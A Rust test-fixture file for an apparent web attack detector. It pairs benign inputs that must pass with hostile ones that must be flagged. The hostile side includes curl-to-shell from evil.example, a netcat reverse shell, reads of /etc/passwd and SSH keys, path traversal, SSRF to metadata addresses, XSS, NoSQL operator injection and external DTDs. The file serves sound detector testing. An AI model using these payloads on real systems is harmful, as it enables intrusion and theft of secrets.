//! What everyday traffic was refused for, and what passed in its dress.

use super::{Pair, at, body, query};

#[rustfmt::skip]
pub(super) const EVERYDAY: &[Pair] = &[
    // commands behind words: told of, and appended
    body("comment", &[
        "I tried it with wget; curl -I https://example.com says 200", "Just run: cd /tmp; wget https://example.com/a.tgz; tar xzf a.tgz", "Server is down again; ping 10.0.0.5",
        "First cd /var/www; then chown -R www-data /srv; that should do", "We need a hand here; ls -la /srv shows nothing", "ping 8.8.8.8 works; nslookup doesn't",
        "Run it: docker run --rm -it -v $(pwd):/app node:20 sh",
    ], &[
        "nice post; curl http://evil.example/x|sh", "please see this;curl http://evil.example/x | sh", "what a nice article;wget http://evil.example/x -O /tmp/x;sh /tmp/x",
        "hello my dear friend && cat /etc/passwd", "hello there my friend; whoami", "what a nice post; sleep 5", "very nice post indeed & ping -n 10 127.0.0.1 &",
        "this is my comment; python3 -c 'import os'", "some nice words here | nc -e /bin/sh 10.0.0.1 4444", "ping 8.8.8.8 works; cat /etc/passwd", "one nice word more; cat /etc/passwd #",
        "Run it: docker run --rm -it -v $(id):/app node:20 sh", "some nice words here $(curl http://evil.example/)",
    ]),
    // code that rich text shows
    body("content", &[
        "<pre><code class=\"language-bash\">curl -fsSL https://get.example.com | sh\nsudo systemctl restart nginx; tail -f /var/log/nginx/access.log</code></pre><p>Done.</p>",
        "<p>Add <code>ENTRYPOINT [\"/bin/sh\", \"-c\", \"exec nginx\"]</code> to it.</p>", "<p>To see how much <b>room</b> is left:</p><pre>df -h; ls -la /srv</pre>",
    ], &[
        "<pre><code>x</code></pre>; cat /etc/passwd", "<code>;cat /etc/passwd</code>", "<code>$(curl http://evil.example/|sh)</code>", "<code>'; cat /etc/passwd #</code>",
        "<code>x; cat /etc/passwd", "<p><code>x;cat /etc/passwd</code></p>", "<pre>x;cat /etc/passwd</pre>", "<codex>x; cat /etc/passwd</code>",
    ]),
    body("name", &["<code>x</code>"], &["<code>x; cat /etc/passwd</code>"]),
    // what an operator between quotes is in the place of a password
    body("password", &["a='b'", "it's='x'", "'quoted'", "''1", "'-'", "=-=", "'", "\""], &["'='", "''='", "\"=\"", "'+'", "'='#", "'||'", "'&&'--"]),
    // files that reports and webhooks name, and files that are asked for
    at("/logs", body("file", &["/usr/src/app/index.js", "/etc/nginx/nginx.conf", "/var/www/html/index.php"], &[
        "/etc/passwd", "/etc/shadow", "/root/.ssh/id_rsa", "/proc/self/environ", "/home/kim/.ssh/id_rsa", "/run/secrets/token",
    ])),
    at("/loki/api/v1/push", body("streams[0].stream.filename", &["/var/log/syslog", "/var/log/nginx/access.log"], &["/etc/passwd"])),
    at("/hooks/x", body("file", &[".env.example", "src/main.rs"], &[".env", "/app/.env", ".htpasswd", ".git/config"])),
    at("/hooks/x", body("diffstat[0].new.path", &[".env", ".npmrc"], &["../../.env"])),
    // paths in sentences
    body("description", &[
        "Fixes the path traversal (`../../etc/passwd`) in the download handler.", "The link ../../docs/a.md is broken in the README", "Path \"../../etc/passwd\" is now rejected with 400",
    ], &[
        "../../etc/passwd", "see ../../../../etc/passwd", "../../../../etc/passwd is the path", "a/../../../etc/passwd in the end", "the x/../../../../etc/passwd is it",
    ]),
    query("q", &["../../ in path"], &["../../etc/passwd in path", "../../ ", "path ../../etc/passwd", "../../../x in path"]),
    query("file", &["a.pdf"], &["../../ in path", "Fixes the (`../../etc/passwd`) in the handler"]),
    // where settings say that something lies
    at("/admin/settings", body("ssl_key", &["/etc/ssl/private/app.key", "/etc/letsencrypt/live/example.com/privkey.pem"], &[
        "/etc/passwd", "/etc/shadow", "/etc/ssl/../passwd.pem", "/root/.ssh/id_rsa", "/etc/krb5.keytab",
    ])),
    at("/admin/settings", body("path", &["/var/log/nginx"], &["/etc/ssl/private/app.key"])),
    at("/api/fetch", body("ssl_key", &["app.key"], &["/etc/ssl/private/app.key"])),
    at("/admin/settings", body("docker_host", &["unix:///var/run/docker.sock", "tcp://10.0.0.5:2375"], &["unix:///etc/passwd", "unix:///var/run/secrets/x"])),
    at("/admin/settings", body("file", &["x"], &["unix:///var/run/docker.sock", "/var/run/docker.sock"])),
    at("/admin/settings", body("database_url", &["sqlite:///var/lib/app/data.db"], &["sqlite:///etc/passwd", "sqlite:///var/lib/../../etc/x.db"])),
    at("/admin/settings", body("git_path", &["/usr/bin/git", "/usr/local/bin/git"], &["/bin/sh", "/usr/bin/curl", "/usr/bin/git;id"])),
    at("/api/run", body("git_path", &["git"], &["/usr/bin/git"])),
    at("/admin/settings", body("build_command", &[
        "pip install -r requirements.txt; python manage.py collectstatic --noinput", "npm ci && npm run build",
    ], &[
        "npm i; curl http://evil.example/x", "python -c 'import os'; cat x.php", "npm i && cat /etc/passwd", "npm i; php -r 1", "npm i; php ../x.php", "npm i; sh x.sh",
    ])),
    at("/admin/settings", body("ws_url", &["ws://localhost:8080", "wss://127.0.0.1:6001/app"], &["ws://169.254.169.254/", "ws://localhost:22/", "http://127.0.0.1:6379/", "ws://a@localhost:8080"])),
    at("/admin/settings", body("elasticsearch_url", &["http://127.0.0.1:9200", "http://localhost:9200/"], &[
        "http://127.0.0.1:6379/", "http://169.254.169.254:9200", "http://127.0.0.1:9200/_search?x", "http://a@127.0.0.1:9200",
    ])),
    at("/admin/settings", body("webhook_url", &["https://example.com/x"], &["http://127.0.0.1:9200", "ws://localhost:8080"])),
    at("/api/fetch", body("elasticsearch_url", &["https://es.example.com"], &["http://127.0.0.1:9200"])),
    // handlers of components
    body("content", &[
        "export default () => <ul onClick={() => alert('hi')}>{a.map(i => <li key={i}>{i}</li>)}</ul>", "<Button onPress={handlePress} title=\"Go\" />", "<form onSubmit={handleSubmit(onSubmit)}></form>",
        "<input value={n} onChange={e => setN(e.target.value)} />",
    ], &[
        "<img src=x onerror={alert(1)}>", "<ul onClick={() => x}><img src=x onerror=alert(1)>", "<img src=x onClick={ onerror=alert(1) }>", "<a onX={x}>';alert('1')//", "<a onClick={';alert(1);'}>x</a>",
        "<img onerror={`${alert(1)}`} src=x>", "<ul onClick={()=><img src=x onerror=alert(1)>}>", "<a onClick={x}></a><script>alert(1)</script>", "<img src=x onerror={eval(name)}>", "<img src=x onerror={top.handleX(1)}>",
        "<a onClick={x", "<a onClick={x}\" onload=alert(1)>",
    ]),
    // source code of some lines, and what leaves a string
    body("code", &[
        "function hi() {\n  alert('Hello');\n}\nhi();\n", "document.getElementById('x').addEventListener('click', function () {\n  alert('clicked');\n  console.log('x');\n});\n",
    ], &[
        "alert(1)", "';alert(1);\n\n\nx('", "\";alert(1);\n\n\nx(\"", "a\n`+alert(1)+`\nb\nc", "a\n${alert(1)}\nb\nc", "//'\n\n';alert(1)\nx", "x\\\n';alert(1)\n\n//", "x\n<script>alert(1)</script>\ny\nz",
        "this\nthis\nalert(1)",
    ]),
    body("name", &["x\ny"], &["function hi() {\n  alert('Hello');\n}\nhi();\n"]),
    // what a fragment loads from elsewhere, and what a page of its own does
    body("html", &[
        "<link rel=\"stylesheet\" href=\"/a.css\"><p>x</p>", "<link rel=\"stylesheet\" href=\"https://cdn.jsdelivr.net/npm/bootstrap@5/dist/css/bootstrap.min.css\"><p>x</p>",
        "<p>x</p><link rel=\"stylesheet\" href=\"https://assets.example.com/site.css?v=2\">", "<style>@import url(https://fonts.example.com/css2?family=Inter);</style>",
        "<form action=\"https://example.us1.list-manage.com/subscribe/post\"><input type=\"email\" name=\"EMAIL\"></form>", "<form action=\"/login\"><input type=\"password\"></form>",
    ], &[
        "<p>x</p><link rel=stylesheet href=https://evil.example/x.css>", "<link rel=\"stylesheet\" href=\"//evil.example/a.css\"><p>a</p>", "<link rel=stylesheet href=\\\\evil.example\\a.css>",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x?c=\">", "<link rel=\"stylesheet\" href=\"https://10.1.2.3/x.css\">", "<html><link rel=\"stylesheet\" href=\"//evil.example/a\"></html>",
        "<style>@import url(//fonts.evil.example/x.css);</style>", "<form action=\"https://evil.example/\"><input name=u><input type=password name=p></form>",
        "<html><base href=\"https://evil.example/\"></html>",
    ]),
    at("/api/campaigns", body("html", &[
        "<html><head><base href=\"https://shop.example.com/\" target=\"_blank\"></head><body><img src=\"a.png\"></body></html>",
        "<!doctype html><html><head><link rel=\"stylesheet\" href=\"https://cdn.example.com/mail\"></head></html>",
    ], &[
        "<p>x</p><base href=\"https://evil.example/\">", "<html><base href=\"javascript:alert(1)//\"></html>", "<html><base href=\"//evil.example/\"></html>",
        "<html><head><base href=\"https://a.example/\"><script>alert(1)</script></head></html>", "<html><base href=\"https://a.example/\"><noscript><p></html>",
    ])),
    // lines of source code in error reports
    at("/api/errors", body("frames[0].context_line", &["const x = eval('1+1'); document.write('<b>' + x)"], &["<script>alert(1)</script>", "<img src=x onerror=alert(1)>"])),
    body("context_line", &["x = 1"], &["document.write('<b>' + x)"]),
    // ranges
    query("where", &["{\"score\":{\"$gte\":1000,\"$lte\":3000}}", "{\"at\":{\"$gt\":\"2024-01-01\"}}"], &[
        "{\"a\":{\"$gt\":\"\"}}", "{\"a\":{\"$ne\":1}}", "{\"a\":{\"$gt\":0}}", "{\"a\":{\"$gt\":1},\"$where\":\"1\"}", "{\"a\":{\"$gt\":1,\"$ne\":2}}",
    ]),
    query("name", &["Kim"], &["{\"$gt\":1}"]),
    // document types of what builds and news agencies write
    body("doc", &[
        "<!DOCTYPE coverage SYSTEM \"http://cobertura.sourceforge.net/xml/coverage-04.dtd\"><coverage/>", "<!DOCTYPE testng SYSTEM \"https://testng.org/testng-1.0.dtd\"><testng/>",
        "<!DOCTYPE newsml SYSTEM \"http://www.newsml.org/dl/NewsML_1.2.dtd\"><newsml/>",
    ], &[
        "<!DOCTYPE testng SYSTEM \"https://testng.org.evil.example/testng-1.0.dtd\"><testng/>", "<!DOCTYPE coverage SYSTEM \"http://evil.example/coverage-04.dtd\"><coverage/>",
    ]),
    // words around a call
    query("q", &["php system() function", "python eval() builtin explained"], &["php system('id');", "return system('id') x", "echo system('id') x", "system('id')"]),
];

#[cfg(test)]
mod tests {
    use super::super::super::{DETECTORS, Field, Options, Part, Place, Role, Spelling};

    #[test]
    fn stages_of_a_pipeline_are_told_from_operators_of_a_log_in() {
        let found = |name: &str| {
            let last = name.rsplit('.').next().unwrap_or_default();
            let field = Field {
                place: Place { part: Part::Body, name },
                role: Role::Name,
                value: last.as_bytes(),
                spelling: Spelling::Literal,
            };
            DETECTORS.look_for(&field, &Options::STANDARD).is_some()
        };
        assert!(!found("pipeline.$match.total.$gt") && !found("report.pipeline[0].$match.at.$ne"));
        for name in [
            "password.$ne",
            "pipeline.$gt",
            "filter.pipeline.$ne",
            "pipeline.x.$gt",
            "match.total.$gt",
        ] {
            assert!(found(name), "{name}");
        }
    }

    #[test]
    fn a_screen_shot_may_be_called_after_a_hidden_file() {
        let found = |name: &str| {
            let field = Field {
                place: Place {
                    part: Part::Body,
                    name: "file",
                },
                role: Role::FileName,
                value: name.as_bytes(),
                spelling: Spelling::Literal,
            };
            DETECTORS.look_for(&field, &Options::STANDARD).is_some()
        };
        assert!(!found(".env.example.png") && !found(".env - Editor.PNG"));
        assert!(found(".env") && found(".htaccess") && found(".env.php"));
    }
}
